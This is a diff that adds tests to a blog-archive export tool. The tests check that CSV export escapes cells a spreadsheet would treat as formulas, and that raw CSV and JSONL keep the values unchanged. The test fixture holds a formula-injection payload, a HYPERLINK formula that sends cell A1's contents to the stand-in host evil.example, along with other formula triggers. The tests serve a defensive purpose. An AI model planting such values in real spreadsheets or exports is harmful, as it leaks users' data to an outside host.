@@ -169,3 +169,33 @@ def test_file_names_are_safe(url, title, published):
 @given(st.text())
 def test_front_matter_strings_parse_back(value):
     assert yaml.safe_load(f"k: {export_render.yaml_string(value)}") == {"k": value}
+
+
+# -- CSV cells a spreadsheet would run (CWE-1236) -------------------------------------------
+
+FORMULAS = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "author": "@SUM(1,2)",
+            "text": "-5 องศา\n\nหนาวที่สุด", "language": "+th"}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(db):
+    upsert_post(db, post("5", **FORMULAS))
+    stream = io.StringIO()
+    export.export(db, "csv", stream, site="n.blogspot.com")
+    row = next(r for r in csv.DictReader(io.StringIO(stream.getvalue())) if r["post_id"] == "5")
+    assert {name: row[name] for name in FORMULAS} == {
+        name: "'" + value for name, value in FORMULAS.items()}
+    assert row["url"] == "https://n.blogspot.com/2024/01/story-5.html"  # the rest as stored
+    assert row["warc_offset"] == "7"
+
+
+def test_raw_csv_and_jsonl_keep_cells_as_archived(db):
+    upsert_post(db, post("5", **FORMULAS))
+    raw = io.StringIO()
+    export.export(db, "csv", raw, site="n.blogspot.com", raw_csv=True)
+    row = next(r for r in csv.DictReader(io.StringIO(raw.getvalue())) if r["post_id"] == "5")
+    assert {name: row[name] for name in FORMULAS} == FORMULAS
+    lines = io.StringIO()
+    export.export(db, "jsonl", lines, site="n.blogspot.com")
+    record = next(json.loads(line) for line in lines.getvalue().splitlines()
+                  if json.loads(line)["post_id"] == "5")
+    assert {name: record[name] for name in FORMULAS} == FORMULAS
